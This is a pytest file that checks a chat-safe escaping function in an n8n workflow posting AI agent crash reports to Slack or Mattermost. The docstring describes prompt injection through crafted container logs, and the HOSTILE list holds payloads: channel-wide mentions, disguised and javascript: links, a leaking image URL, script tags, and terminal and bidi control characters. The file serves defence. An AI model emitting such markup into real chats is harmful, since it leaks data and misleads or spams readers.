"""The workflow's chat reports show what a model or an agent wrote as text, nothing more.

Found from outside: the report posted the model's answer, the failed tool calls,
the agent's error and the alert's container name to the chat as they were. A
model that read crafted container logs could answer with ``<!channel>`` (Slack
notifies everyone), ``<http://x|Restart it here>`` (a link named as anything),
``![](http://x/?leak=...)`` (Mattermost loads the image in every reader's
client: the URL carries what the model saw out), ``@all``, or a bare URL the
chat fetches for a preview. The workflow now passes every such value through
one chat-safe function (the same in both nodes that write a message): a
zero-width space after ``<``, between ``]`` and ``(``/``[``/``:``, after ``@``,
in ``://`` and ``www.``; control and bidi characters shown as ``\\uXXXX``. The
words stay readable; nothing links, loads, notifies or reorders. The posts also
ask Slack not to unfurl links.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

import pytest

from tests.agent.conftest import AgentServer, Tracing
from tests.deploy.n8n import NODE, load_workflow, node_named, render
from tests.deploy.n8n_shared import TERMINAL, TOKEN, SharedN8n
from tests.scripted_llm import ScriptedLLM, answer, call_tool
from tests.ssh.conftest import SSHServer
from tests.support import require_or_skip, wait_until

ZWSP = "\u200b"

# Chat markup of every kind that acts rather than shows: Slack control sequences,
# Markdown links, images and reference links, raw HTML, mentions, bare URLs, and
# characters that hide or reorder text.
HOSTILE = [
    "<!channel> <!here|here> <!everyone> <@U024BE7LH> <#C024BE7LR> <!subteam^S1>",
    "<http://127.0.0.1:9/fix|Restart it here> <https://127.0.0.1:9/a> <mailto:a@b.c|mail>",
    "![pixel](http://127.0.0.1:9/p.png?leak=secret) [fix](javascript:alert(1))",
    "[docs][1] [shortcut]\n\n[1]: http://127.0.0.1:9/ref\n[shortcut]: <http://127.0.0.1:9/s>",
    '<img src=x onerror="alert(1)"> <script>alert(1)</script> <a href="http://x">a</a>',
    "@channel @all @here @admin ops@example.com",
    "see http://127.0.0.1:9/a, HTTPS://EVIL.example/b, ftp://x/y, www.evil.example, WwW.x.org",
    "\x1b[2J\x1b]8;;http://x\x07link\x1b]8;;\x07 \x00 \x7f \x9b \u202eevil\u202c \u2066x\u2069",
    "\u200b\ufeff\u2028\u2029 line\rreturn",
]


def _inert_in_chat(text: str) -> list[str]:
    """What in ``text`` a Slack- or Mattermost-style chat would act on."""
    found = []
    for name, pattern in {
        "Slack control sequence or HTML": r"<(?!\u200b)",
        "Markdown link, image or reference": r"\](?=[(\[:])",
        "mention": r"@\w",
        "URL": r"://",
        "web address": r"(?i)www\.",
    }.items():
        found += [f"{name}: {m.group()!r}" for m in re.finditer(pattern, text)]
    found += [
        f"character {ch!r}"
        for ch in text
        if ch != ZWSP
        and (
            (ord(ch) < 0x20 and ch != "\n")
            or 0x7F <= ord(ch) <= 0x9F
            or unicodedata.category(ch) in ("Cf", "Zl", "Zp")
        )
    ]
    return found


def _report(answer: str) -> dict[str, Any]:
    """The "Read the answer" item of a run whose every text field is ``answer``."""
    return {
        "run_id": answer,
        "status": answer,
        "container_label": answer,
        "answer": answer,
        "why": "",
        "tool_failures": f"1 of 1 tool calls failed: docker_logs: {answer}",
    }


def _text_of(node_name: str, context: dict[str, Any]) -> str:
    node = node_named(load_workflow(), node_name)
    (text,) = [a for a in node["parameters"]["assignments"]["assignments"] if a["name"] == "text"]
    (rendered,) = render([(text["value"], context)])
    return str(rendered)


DESCRIBE = {"Describe the crash": {"agent_url": "http://127.0.0.1:8000"}}


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_a_report_shows_hostile_text_inert(payload: str) -> None:
    require_or_skip(NODE is not None, "node (Node.js) is needed to evaluate n8n expressions")
    answered = _text_of("Format the report", {"json": _report(payload), "nodes": DESCRIBE})
    no_answer = _text_of(
        "Format the report",
        {
            "json": {"run_id": "", "container_label": payload, "why": f"it answered {payload}"},
            "nodes": DESCRIBE,
        },
    )
    # The agent's address is configuration, not agent output: it stays a link.
    header = "agent-audit: no answer from the agent at http://127.0.0.1:8000 ("
    assert no_answer.startswith(header)
    for text in (answered, no_answer.removeprefix(header)):
        assert _inert_in_chat(text) == [], text
    # Still readable: the words are all there, only made inert.
    shown = answered.replace(ZWSP, "")
    for word in re.findall(r"[A-Za-z]{4,}", payload):
        assert word in shown, (word, shown)


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_a_failed_execution_shows_hostile_error_text_inert(payload: str) -> None:
    require_or_skip(NODE is not None, "node (Node.js) is needed to evaluate n8n expressions")
    execution_url = "http://127.0.0.1:5678/workflow/containerCrash01/executions/7"
    text = _text_of(
        "Describe the failure",
        {
            "json": {
                "execution": {
                    "id": "7",
                    "error": {"message": payload},
                    "lastNodeExecuted": payload,
                    "mode": "webhook",
                    "url": execution_url,
                },
                "workflow": {"id": "containerCrash01", "name": payload},
            }
        },
    )
    head, _, tail = text.rpartition("\n")
    assert tail == execution_url  # n8n's own link stays a link
    assert _inert_in_chat(head) == [], head


def test_plain_reports_read_as_before() -> None:
    require_or_skip(NODE is not None, "node (Node.js) is needed to evaluate n8n expressions")
    item = _report("x") | {
        "run_id": "3f2a9c1e-0000-4000-8000-000000000000",
        "status": "completed",
        "container_label": "web",
        "answer": "The container ran out of memory (exit code 137); raise its limit to 1g.",
        "tool_failures": "",
    }
    assert _text_of("Format the report", {"json": item, "nodes": DESCRIBE}) == (
        "agent-audit run 3f2a9c1e-0000-4000-8000-000000000000: completed (web)\n\n"
        "The container ran out of memory (exit code 137); raise its limit to 1g."
    )


def test_both_messages_use_one_chat_function_and_posts_ask_for_no_previews() -> None:
    workflow = load_workflow()
    functions = set()
    for name in ("Format the report", "Describe the failure"):
        (text,) = [
            a["value"]
            for a in node_named(workflow, name)["parameters"]["assignments"]["assignments"]
            if a["name"] == "text"
        ]
        match = re.search(r"\)\((\(text\) => .*)\) \}\}$", text)
        assert match, text
        functions.add(match.group(1))
    assert len(functions) == 1
    for name in ("Post the report", "Post the failure"):
        body = node_named(workflow, name)["parameters"]["jsonBody"]
        if NODE is not None:
            (rendered,) = render([(body, {"json": {"text": "x"}})])
            assert json.loads(rendered) == {
                "text": "x",
                "unfurl_links": False,
                "unfurl_media": False,
            }
        else:
            assert "unfurl_links: false, unfurl_media: false" in body


@pytest.mark.xdist_group("n8n")  # the one shared n8n of tests/deploy
def test_real_n8n_posts_a_hostile_answer_inert(
    n8n: SharedN8n,
    start_agent: Callable[..., AgentServer],
    llm: ScriptedLLM,
    tracing: Tracing,
    sshd: SSHServer,
) -> None:
    """n8n's own expression engine runs the chat function: the posted report is inert."""
    agent = start_agent(ssh=sshd, token=TOKEN)
    hostile = "\n".join(HOSTILE)
    llm.script(
        'The container "markup"',
        [
            # A tool call the client refuses (no such container name): its error, naming
            # the hostile argument, is reported as a failed tool call.
            call_tool("docker_logs", {"container": "<!channel>@all[x](http://127.0.0.1:9/)"}),
            answer(hostile),
        ],
    )
    workflow = n8n.add(agent.url)
    n8n.alert(workflow, {"container": "markup"})

    def ended() -> dict[str, Any] | None:
        executions = n8n.workflow_executions(workflow["id"])
        return executions[0] if executions and executions[0]["status"] in TERMINAL else None

    execution = wait_until(ended, timeout_s=90, interval_s=0.5, what="the execution to end")
    assert execution is not None
    data = n8n.server.execution_data(str(execution["id"]))
    assert execution["status"] == "success", data["resultData"].get("error")
    (posted,) = n8n.posted
    assert posted["unfurl_links"] is False and posted["unfurl_media"] is False
    text = posted["text"]
    assert re.match(r"agent-audit run [0-9a-f-]{36}: completed \(markup\)\n\n", text), text
    assert _inert_in_chat(text) == [], text
    assert "1 of 1 tool calls failed: docker_logs: " in text
    # The run keeps the answer exactly as the model gave it.
    run_id = text.split(" ")[2].rstrip(":")
    assert tracing.run(run_id)["final_answer"] == hostile
